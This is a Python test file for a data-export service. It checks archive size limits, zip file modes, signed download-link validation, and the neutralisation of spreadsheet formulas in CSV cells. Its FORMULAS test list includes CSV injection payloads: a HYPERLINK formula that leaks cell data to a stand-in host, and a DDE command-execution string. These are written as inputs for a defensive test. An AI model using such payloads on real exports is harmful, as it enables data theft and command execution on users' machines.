"""The exports service's pure parts: the archive's limits stop an export
before it grows past them; text cells a spreadsheet would read as formulas
are neutralised (OWASP) while numbers, amounts and JSON cells are written as
they are; every entry of the zip is a regular file of mode 0644, whatever the
umask; a download link names one export of one network until it expires,
and any change to it is refused."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import zipfile
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest

from services.exports.archive import BY_NAME, FILES, ArchiveWriter, Limits, TooLarge, neutralise
from services.exports.links import Signer
from services.referrals import contract as rc
from services.runtime.errors import InvalidToken

NOW = datetime(2026, 5, 12, 9, 30, tzinfo=UTC)


def one_to_one(n: int) -> rc.OneToOne:
    return rc.OneToOne(
        one_to_one_id=f"o{n}",
        logged_by="a",
        other_id="b",
        met_on=NOW.date(),
        status="confirmed",
        logged_at=NOW,
        answered_at=None,
    )


def test_rows_are_written_as_csv_and_the_limits_stop_a_large_export() -> None:
    writer = ArchiveWriter(Limits(max_rows=2))
    try:
        writer.add("one_to_ones.csv", [one_to_one(1), one_to_one(2)])
        with pytest.raises(TooLarge, match="more than 2 rows"):
            writer.add("one_to_ones.csv", [one_to_one(3)])
        path = writer.finish({"scope": "network"}, NOW, NOW + timedelta(seconds=2))
        with zipfile.ZipFile(path) as z:
            rows = list(csv.DictReader(io.StringIO(z.read("one_to_ones.csv").decode())))
            manifest = json.loads(z.read("manifest.json"))
            readme = z.read("README.txt").decode()
        assert [r["one_to_one_id"] for r in rows] == ["o1", "o2"]
        assert rows[0]["answered_at"] == "" and rows[0]["met_on"] == "2026-05-12"
        assert {f["name"] for f in manifest["files"]} == {f.name for f in FILES}
        assert next(f["rows"] for f in manifest["files"] if f["name"] == "one_to_ones.csv") == 2
        assert manifest["seconds"] == 2.0 and "2.0 seconds" in readme
    finally:
        writer.close()
    assert not writer.directory.exists()

    small = ArchiveWriter(Limits(max_bytes=100))
    try:
        with pytest.raises(TooLarge, match="larger than 100 bytes"):
            small.add("one_to_ones.csv", [one_to_one(n) for n in range(5)])
    finally:
        small.close()


@pytest.mark.parametrize("umask", [0o022, 0o077, 0o002], ids=["umask022", "umask077", "umask002"])
def test_every_entry_of_the_archive_is_a_regular_file_of_mode_0644(umask: int) -> None:
    """README.txt and manifest.json (written from memory) and the data files
    (written to temporary files, whose mode follows the umask) alike."""
    previous = os.umask(umask)
    try:
        writer = ArchiveWriter()
    finally:
        os.umask(previous)
    try:
        writer.add("one_to_ones.csv", [one_to_one(1)])
        path = writer.finish({"scope": "me"}, NOW, NOW + timedelta(seconds=2))
        with zipfile.ZipFile(path) as z:
            infos = z.infolist()
            assert z.testzip() is None
            assert z.read("one_to_ones.csv").decode().count("\r\n") == 2  # content intact
    finally:
        writer.close()
    names = [i.filename for i in infos]
    assert names[:2] == ["README.txt", "manifest.json"]
    assert sorted(names[2:]) == sorted(f.name for f in FILES)
    modes = {i.filename: (i.create_system, oct(i.external_attr >> 16)) for i in infos}
    assert modes == dict.fromkeys(names, (3, oct(stat.S_IFREG | 0o644)))
    assert {i.date_time for i in infos} == {(2026, 5, 12, 9, 30, 2)}  # when it was made, UTC
    assert {i.compress_type for i in infos} == {zipfile.ZIP_DEFLATED}


FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # after leading whitespace (some spreadsheets trim it on import)
    "\n\t @SUM(A1)",
    "=cmd|' /C calc'!A0",
]
PLAIN = ["Ana", "a=b", "1-2", "", "'already quoted", "(=1)", "plumber, Paris 11e", "x@y.example"]


@pytest.mark.parametrize("text", FORMULAS, ids=[f"formula{i}" for i in range(len(FORMULAS))])
def test_a_text_a_spreadsheet_would_take_for_a_formula_starts_with_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN, ids=[f"plain{i}" for i in range(len(PLAIN))])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert neutralise(text) == text


def test_csv_text_cells_are_neutralised_and_numbers_amounts_and_json_kept() -> None:
    """Every text column of every CSV, a number that is negative (not
    text: never escaped), an amount and a list (JSON cells start with { or [)."""
    for spec in FILES:
        for column in ("rows", "at", "answered_at", "waitlist_position", "pending", "value"):
            assert column not in spec.text_columns, (spec.name, column)
    assert {"display_name", "bio", "email", "offers"} <= BY_NAME["members.csv"].text_columns
    assert {"topic", "description"} <= BY_NAME["workshop_proposals.csv"].text_columns
    assert {"url", "description"} <= BY_NAME["webhook_endpoints.csv"].text_columns

    writer = ArchiveWriter()
    try:
        endpoint = {
            "endpoint_id": "e1",
            "tenant_id": "t1",
            "url": "https://hooks.example/q",
            "event_types": ["=quartier.hubs."],
            "description": FORMULAS[0],
            "enabled": True,
            "disabled_reason": None,
            "created_at": NOW.isoformat(),
            "updated_at": NOW.isoformat(),
            "secret_rotated_at": None,
            "pending": -2,  # a number (never negative in practice): written as it is
            "failing_since": None,
        }
        writer.add("webhook_endpoints.csv", [endpoint])
        thanks = rc.Thanks(
            thanks_id="th1",
            giver_id="a",
            receiver_id="b",
            referral_id=None,
            hub_id=None,
            about="-2+3",
            value=rc.Money(amount=Decimal("-12.50")),
            at=NOW,
        )
        writer.add("thanks.csv", [thanks])
        writer.add(
            "workshop_proposals.csv",
            [
                {
                    "proposal_id": "p1",
                    "hub_id": "h1",
                    "host_id": "a",
                    "topic": text,
                    "description": "plain words",
                    "proposed_at": NOW.isoformat(),
                    "meetup_id": None,
                }
                for text in FORMULAS + PLAIN
            ],
        )
        writer.add("needs.ndjson", [{"need_id": "n1", "description": "=1+1"}])
        path = writer.finish({"scope": "network"}, NOW, NOW)
        with zipfile.ZipFile(path) as z:

            def rows(name: str) -> list[dict[str, str]]:
                text = z.read(name).decode()
                return list(csv.DictReader(io.StringIO(text, newline="")))

            [hook] = rows("webhook_endpoints.csv")
            [thank] = rows("thanks.csv")
            proposals = rows("workshop_proposals.csv")
            need = json.loads(z.read("needs.ndjson"))
            readme = z.read("README.txt").decode()
    finally:
        writer.close()
    assert hook["description"] == "'" + FORMULAS[0] and hook["pending"] == "-2"
    assert hook["event_types"] == '["=quartier.hubs."]' and hook["enabled"] == "true"
    assert thank["about"] == "'-2+3"
    assert json.loads(thank["value"]) == {"amount": "-12.50", "currency": "EUR"}
    assert [p["topic"] for p in proposals] == ["'" + t for t in FORMULAS] + PLAIN
    assert need["description"] == "=1+1"  # NDJSON is no spreadsheet's: as written
    assert "single quote" in readme


def test_a_link_names_one_export_of_one_network_until_it_expires() -> None:
    signer = Signer(b"k" * 32)
    token = signer.token("x1", "t1", NOW + timedelta(minutes=5))
    assert signer.check(token, "x1", NOW) == "t1"
    payload, signature = token.split(".")
    forged = Signer(b"z" * 32).token("x1", "t1", NOW + timedelta(days=9))
    for bad, export_id, at in (
        (token, "x2", NOW),  # another export
        (token, "x1", NOW + timedelta(minutes=5)),  # expired
        (payload + "." + signature[:-1] + ("A" if signature[-1] != "A" else "B"), "x1", NOW),
        (forged, "x1", NOW),  # signed with another key
        ("", "x1", NOW),
        ("a.b.c", "x1", NOW),
    ):
        with pytest.raises(InvalidToken):
            signer.check(bad, export_id, at)
